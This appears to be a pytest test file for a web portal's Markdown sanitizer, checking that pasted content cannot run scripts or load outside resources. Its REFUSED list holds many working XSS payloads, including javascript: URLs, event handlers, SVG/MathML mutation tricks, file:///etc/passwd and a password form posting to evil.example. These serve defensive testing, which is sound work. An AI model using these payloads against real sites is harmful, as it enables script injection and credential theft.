"""Whatever an editor pastes, nothing of it runs, loads from elsewhere or takes over a name."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.reading.markdown import clean_html
from portal.reading.markdown.allowlist import ACTIVE_TAGS, RAW_TAGS
from tests.reading.texts import convert

_MADE = {"code", "div", "figure", "h2", "h3", "h4", "h5", "h6", "img", "pre", "section"}
_MADE |= {"picture", "source"}
_ATTRIBUTES = {"alt", "aria-label", "class", "colspan", "datetime", "decoding", "height", "href"}
_ATTRIBUTES |= {"hreflang", "id", "lang", "loading", "rel", "role", "rowspan", "scope", "src"}
_ATTRIBUTES |= {"sizes", "srcset", "start", "tabindex", "title", "type", "value", "width"}
_CLASSES = {"align-center", "align-left", "align-right", "footnote-backref", "footnote-ref"}
_CLASSES |= {"footnotes", "table-scroll"}
_IDS = re.compile(r"muc-[a-z0-9-]+|fn:.*|fnref\d*:.*", re.DOTALL)
# Browsers leave these out of an address before they look for its scheme.
_IGNORED_IN_ADDRESSES = re.compile(r"[\x00-\x20]")
_OWN_FILE = re.compile(r"\s*/(?![/\\])")
_ADDRESS = re.compile(r"(https?:|mailto:|tel:|/(?![/\\])|#)", re.IGNORECASE)


class Inspector(HTMLParser):
    """Notes everything in HTML that may not be there."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in RAW_TAGS and tag not in _MADE:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            self._inspect(tag, name, value or "")

    def _inspect(self, tag: str, name: str, value: str) -> None:
        bare = _IGNORED_IN_ADDRESSES.sub("", value)
        wrong = {
            "href": not _ADDRESS.match(bare),
            "src": not bare.startswith("/images/"),
            "srcset": not all(map(_OWN_FILE.match, value.split(","))),
            "class": value not in _CLASSES,
            "id": not _IDS.fullmatch(value),
        }
        if name not in _ATTRIBUTES or wrong.get(name, False):
            self.faults.append(f'<{tag} {name}="{value}">')

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")


REFUSED = [
    # scripts
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<div><script>alert(1)</script></div>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    # handlers and attributes
    "<b onclick=alert(1)>x</b>",
    "<b OnMouseOver='alert(1)'>x</b>",
    "<b\nonclick=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    '<div onclick="alert(1)">x</div>',
    '<abbr title="x" onfocus=alert(1) tabindex=1 autofocus>x</abbr>',
    "<abbr title='x\" onclick=\"alert(1)' id=x>x</abbr>",
    '<b style="background:url(javascript:alert(1))">x</b>',
    '<b style="position:fixed;top:0;left:0;width:100%;height:100%">x</b>',
    '<b class="table-scroll">x</b>',
    '<div id="location">x</div>',
    '<div id="main" name="x">x</div>',
    '<p data-x="1" contenteditable>x</p>',
    "<details ontoggle=alert(1) open><summary>x</summary>y</details>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<q cite="javascript:alert(1)">x</q>',
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x](&#x1;javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](java\u200bscript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.vn/b)",
    "[x](view-source:https://a.vn/)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](&#47;&#47;evil.example/)",
    "[x](https://a.vn&#64;evil.example\\@b/)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "<javascript://a%0aalert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="/tim-kiem/" target="_blank" ping="https://evil.example/">x</a>',
    '<a href="/tim-kiem/" href="javascript:alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    # images and media
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    '![x" onerror="alert(1)](a.jpg)',
    "<img src=x onerror=alert(1)>",
    '<img src="/images/hoi-nghi.jpg" alt="x">',
    "<img/src=`x`onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    '<picture><source srcset="https://evil.example/a.jpg"></picture>',
    "<video src=x onerror=alert(1)></video>",
    '<audio autoplay src="https://evil.example/a.mp3"></audio>',
    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,x"></object>',
    '<embed src="https://evil.example/a.swf">',
    "<applet code=x></applet>",
    # foreign content, where parsers differ
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    # documents, forms, frames
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<form action="https://evil.example/"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    '<isindex action="javascript:alert(1)">',
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>",
    "<html manifest=x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<blink>x</blink>",
    "<dialog open>x</dialog>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    # declarations and broken markup
    '<!DOCTYPE html [<!ENTITY x "y">]>',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    "<?php echo 1; ?>",
    "<b>unclosed",
    "<div><b>x</div>",
    "</b>never opened",
    "<p><table><tr><td></p><script>alert(1)</script>",
    '<a href="/tim-kiem/"><a href="/so-lieu/">x</a></a>',
    "<b title='<script>alert(1)</script>'>x</b>",
    "x\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]

HARMLESS = [
    "<!-- <script>alert(1)</script> -->x",
    "<!--> <b>x</b> -->",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)",
    "x < y, y > z",
    "<3 và <-",
    "[x](/tim-kiem/?q=javascript:alert(1))",
    "[x](https://a.vn/?u=javascript:alert(1))",
    '[x](/tim-kiem/ "a\\" onclick=alert(1)")',
    '![x\\" onerror=alert(1)](hoi-nghi.jpg)',
    "![x' onerror='alert(1)](hoi-nghi.jpg)",
    "| <!-- --> |\n|---|\n| `<b onclick=x>` |",
    "javascript:alert(1)",
]


@pytest.mark.parametrize("text", REFUSED)
def test_what_could_do_harm_is_an_error_and_does_not_come_out(text: str) -> None:
    assert convert(text).problems.errors
    for whole in (text, f"Một.\n\n{text}\n\nHai.", f"- {text}", f"> a {text}", f"x {text} y"):
        outcome = convert(whole)

        assert Inspector(outcome.html).faults == [], whole
        # Where Markdown does not see it for what it is, it is there to be read.
        assert outcome.problems.errors or re.search("&lt;|\\[", outcome.html), whole


@pytest.mark.parametrize("text", HARMLESS)
def test_what_only_looks_harmful_is_text(text: str) -> None:
    outcome = convert(text)

    assert outcome.lines() == []
    assert Inspector(outcome.html).faults == []


@pytest.mark.parametrize("text", [*REFUSED, *HARMLESS])
def test_the_cleaner_alone_holds_if_everything_before_it_failed(text: str) -> None:
    html = clean_html(text)

    # It lets relative addresses be: only the steps before it know the site.
    faults = [fault for fault in Inspector(html).faults if not re.search(r" (href|src)=", fault)]
    assert faults == []
    for address in re.findall(r'(?:href|src)="([^"]*)"', html):
        assert not re.match(r"(?i)\s*(javascript|vbscript|data|file|blob|view-source)", address)


@pytest.mark.parametrize(
    ("srcset", "stays"),
    [
        ("/hinh-anh/a.360.avif 360w, /hinh-anh/a.720.avif 720w", True),
        ("/hinh-anh/a.avif", True),
        ("//evil.example/a.jpg 1x", False),
        ("/a.jpg 360w, https://evil.example/a.jpg 720w", False),
        ("data:image/svg+xml;base64,AAAA", False),
        ("a.jpg, javascript:alert(1)", False),
        ("/\\evil.example/a.jpg", False),
    ],
)
def test_a_choice_of_files_stays_only_where_all_are_of_the_site(srcset: str, stays: bool) -> None:
    html = clean_html(f'<picture><source srcset="{srcset}" type="image/avif"></picture>')
    assert ("srcset=" in html) == stays
    assert 'type="image/avif"' in html


@given(
    st.lists(
        st.sampled_from(
            [
                *(
                    "<script>",
                    "</script>",
                    "<svg>",
                    "<style>",
                    "</style>",
                    "<img src=x ",
                    "<b ",
                    "<a ",
                ),
                *("onerror=alert(1)", "href=", '"', "'", ">", "<", "/", "=", "`", "javascript:"),
                *("[x](", ")", "![y](", "<!--", "-->", "<![CDATA[", "]]>", "<?", "&#58;", "\n\n"),
                *("<table>", "<td>", "</p>", "<math>", "<noscript>", "*", "_", "\\", "| ", "text "),
            ]
        ),
        max_size=15,
    ).map("".join)
)
@settings(deadline=None, max_examples=200)
def test_no_mixture_of_them_comes_out(text: str) -> None:
    assert Inspector(convert(text).html).faults == []


def test_cleaning_what_is_clean_changes_nothing() -> None:
    html = convert(
        "## A\n\n| a |\n|:-:|\n| b[^1] |\n\n![x](hoi-nghi.jpg)\n\n<ruby>云<rt>Vân</rt></ruby>\n\n"
        "[^1]: c"
    ).html

    assert clean_html(html) == html


def test_no_tag_is_both_allowed_and_active() -> None:
    assert ACTIVE_TAGS.isdisjoint(RAW_TAGS)
    # What an editor may not write, and the portal makes for a picture.
    assert {"source"} == ACTIVE_TAGS & _MADE
